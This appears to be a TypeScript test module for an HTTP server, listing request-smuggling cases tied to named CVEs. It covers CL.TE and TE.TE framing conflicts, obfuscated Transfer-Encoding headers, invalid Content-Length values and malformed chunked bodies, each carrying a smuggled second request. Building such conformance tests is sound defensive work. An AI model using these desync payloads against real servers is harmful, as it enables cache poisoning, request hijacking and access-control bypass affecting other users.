/**
 * Bodies whose length two parties may read apart: CL.TE, TE.CL, TE.TE, lengths and chunks
 * (CVE-2018-7159, CVE-2019-15605, CVE-2019-18277, CVE-2020-8287, CVE-2022-32213 to -32215,
 * CVE-2023-30589, CVE-2023-39326, CVE-2023-40225, CVE-2024-22019, CVE-2025-22871).
 */
import { get, post, raw, seeds, SMUGGLED } from "./request.ts";

const chunked = "Transfer-Encoding: chunked";
const hidden = `0\r\n\r\n${SMUGGLED}`;

const both = seeds("CL.TE", {
  "length first": post([`Content-Length: ${hidden.length}`, chunked], hidden),
  "encoding first": post([chunked, `Content-Length: ${hidden.length}`], hidden),
  "short length": post(["Content-Length: 4", chunked], `5c\r\n${SMUGGLED}\r\n0\r\n\r\n`),
  "length of zero": post(["Content-Length: 0", chunked], hidden),
  "in HTTP/1.0": raw("POST /function/x HTTP/1.0", [chunked, "Content-Length: 5"], hidden),
});

const obfuscations: Record<string, string[]> = {
  xchunked: ["Transfer-Encoding: xchunked"],
  "chunked, identity": ["Transfer-Encoding: chunked, identity"],
  "identity, chunked": ["Transfer-Encoding: identity, chunked"],
  "gzip, chunked": ["Transfer-Encoding: gzip, chunked"],
  identity: ["Transfer-Encoding: identity"],
  empty: ["Transfer-Encoding:"],
  twice: [chunked, chunked],
  "two values": ["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
  "chunked, chunked": ["Transfer-Encoding: chunked, chunked"],
  "tab before": ["Transfer-Encoding:\tchunked"],
  "vertical tab": ["Transfer-Encoding:\vchunked"],
  "form feed after": ["Transfer-Encoding: chunked\f"],
  "NUL after": ["Transfer-Encoding: chunked\0"],
  "0xA0 before": ["Transfer-Encoding: \xa0chunked"],
  "space before colon": ["Transfer-Encoding : chunked"],
  "tab before colon": ["Transfer-Encoding\t: chunked"],
  "leading space": [" Transfer-Encoding: chunked"],
  "obs-fold": ["Transfer-Encoding:\r\n chunked"],
  "obs-fold in X": ["X: y\r\n Transfer-Encoding: chunked"],
  "bare LF before": ["X: y\nTransfer-Encoding: chunked"],
  "bare CR before": ["X: y\rTransfer-Encoding: chunked"],
  quoted: ['Transfer-Encoding: "chunked"'],
  capitals: ["TRANSFER-ENCODING: CHUNKED"],
  "mixed case": ["Transfer-Encoding: cHuNkEd"],
  "with parameter": ["Transfer-Encoding: chunked;q=1"],
  underscore: ["Transfer_Encoding: chunked"],
  "comma before": ["Transfer-Encoding: ,chunked"],
  "comma after": ["Transfer-Encoding: chunked,"],
  "NUL in name": ["Transfer\0-Encoding: chunked"],
  "high byte in name": ["Transfer-Encoding\xff: chunked"],
  "listed in Connection": ["Connection: Transfer-Encoding", chunked],
};

const encodings = Object.entries(obfuscations).flatMap(([name, headers]) =>
  seeds("TE.TE", {
    [name]: post(headers, hidden),
    [`${name}, with a length`]: post([...headers, `Content-Length: ${hidden.length}`], hidden),
  }),
);

const badLengths = [
  ...[
    "+5",
    "-1",
    "5 5",
    "5, 5",
    "5,6",
    "0x5",
    "5.0",
    "5e0",
    "\xd9\xa5",
    "",
    " ",
    "05",
    "\v5",
    "5\f",
    "5;",
  ],
  ...["1".repeat(30), "9223372036854775808", "18446744073709551621", "4294967301", "5\0", "5_0"],
];

const lengths = badLengths.flatMap((length) =>
  seeds("Content-Length", {
    [JSON.stringify(length)]: post([`Content-Length: ${length}`], "hello"),
  }),
);

const doubled = seeds("Content-Length", {
  "same twice": post(["Content-Length: 5", "Content-Length: 5"], "hello"),
  "two different": post(["Content-Length: 5", "Content-Length: 50"], `hello${SMUGGLED}`),
  "different case": post(["Content-Length: 5", "content-length: 0"], `hello${SMUGGLED}`),
  "space before colon": post(["Content-Length : 5"], `hello${SMUGGLED}`),
  underscore: post(["Content_Length: 0", "Content-Length: 5"], `hello${SMUGGLED}`),
  "of a GET": raw("GET /function/x HTTP/1.1", ["Content-Length: 5"], `hello${SMUGGLED}`),
  "of a GET, missing": raw("GET /function/x HTTP/1.1", [], `hello${SMUGGLED}`),
  "of a HEAD": raw("HEAD /function/x HTTP/1.1", ["Content-Length: 5"], `hello${SMUGGLED}`),
  "of a DELETE": raw("DELETE /function/x HTTP/1.1", ["Content-Length: 5"], `hello${SMUGGLED}`),
  "of an OPTIONS": raw("OPTIONS /function/x HTTP/1.1", ["Content-Length: 5"], `hello${SMUGGLED}`),
  "too long for what comes": post(["Content-Length: 500"], "hello"),
  huge: post(["Content-Length: 999999999999999"], "hello"),
  "listed in Connection": post(["Connection: Content-Length", "Content-Length: 5"], "hello"),
});

const bodies: Record<string, string> = {
  plain: "5\r\nhello\r\n0\r\n\r\n",
  extension: "5;a=b\r\nhello\r\n0\r\n\r\n",
  "quoted extension": '5;a="b\r\nc"\r\nhello\r\n0\r\n\r\n',
  "extension with bare LF": "5;a\nb\r\nhello\r\n0\r\n\r\n",
  "extension with bare CR": "5;a\rb\r\nhello\r\n0\r\n\r\n",
  "huge extension": `5;${"a".repeat(20_000)}\r\nhello\r\n0\r\n\r\n`,
  "many extensions": `${`1;${"e".repeat(100)}\r\na\r\n`.repeat(300)}0\r\n\r\n`,
  overflow: "fffffffffffffffff\r\nhello\r\n0\r\n\r\n",
  "overflow to five": "10000000000000005\r\nhello\r\n0\r\n\r\n",
  negative: "-5\r\nhello\r\n0\r\n\r\n",
  plus: "+5\r\nhello\r\n0\r\n\r\n",
  "0x": "0x5\r\nhello\r\n0\r\n\r\n",
  capital: "A\r\nhellohello\r\n0\r\n\r\n",
  "leading zeros": "000005\r\nhello\r\n0\r\n\r\n",
  "leading space": " 5\r\nhello\r\n0\r\n\r\n",
  "trailing space": "5 \r\nhello\r\n0\r\n\r\n",
  underscore: "0_5\r\nhello\r\n0\r\n\r\n",
  "empty size": "\r\nhello\r\n0\r\n\r\n",
  "bare LF after size": "5\nhello\r\n0\r\n\r\n",
  "bare LF after data": "5\r\nhello\n0\r\n\r\n",
  "no CR LF after data": "5\r\nhello0\r\n\r\n",
  "data too long": "5\r\nhelloXX\r\n0\r\n\r\n",
  "bare LF at the end": "5\r\nhello\r\n0\n\n",
  "no final CR LF": "5\r\nhello\r\n0\r\n",
  "no last chunk": "5\r\nhello\r\n",
  trailer: "5\r\nhello\r\n0\r\nX-T: 1\r\n\r\n",
  "framing in trailers": "5\r\nhello\r\n0\r\nContent-Length: 50\r\nHost: evil\r\n\r\n",
  "bad trailer": "5\r\nhello\r\n0\r\nX T: 1\r\n\r\n",
  "trailer with bare LF": "5\r\nhello\r\n0\r\nX: 1\n\r\n",
  "huge trailer": `5\r\nhello\r\n0\r\nX: ${"t".repeat(100_000)}\r\n\r\n`,
};

const chunks = Object.entries(bodies).flatMap(([name, body]) =>
  seeds("chunks", {
    [name]: post([chunked], body),
    [`${name}, then a request`]: post([chunked], `${body}${SMUGGLED}`),
    [`${name}, trailers announced`]: post([chunked, "Trailer: X-T"], body),
  }),
);

const versions = seeds("chunks", {
  "in HTTP/1.0": raw("POST /function/x HTTP/1.0", [chunked], `${bodies["plain"]}${SMUGGLED}`),
  "in HTTP/1.0, kept alive": raw(
    "POST /function/x HTTP/1.0",
    ["Connection: keep-alive", chunked],
    `${bodies["plain"]}${SMUGGLED}`,
  ),
  "of a GET": raw("GET /function/x HTTP/1.1", [chunked], `${bodies["plain"]}${get("/function/y")}`),
});

export const framing = [...both, ...encodings, ...lengths, ...doubled, ...chunks, ...versions];
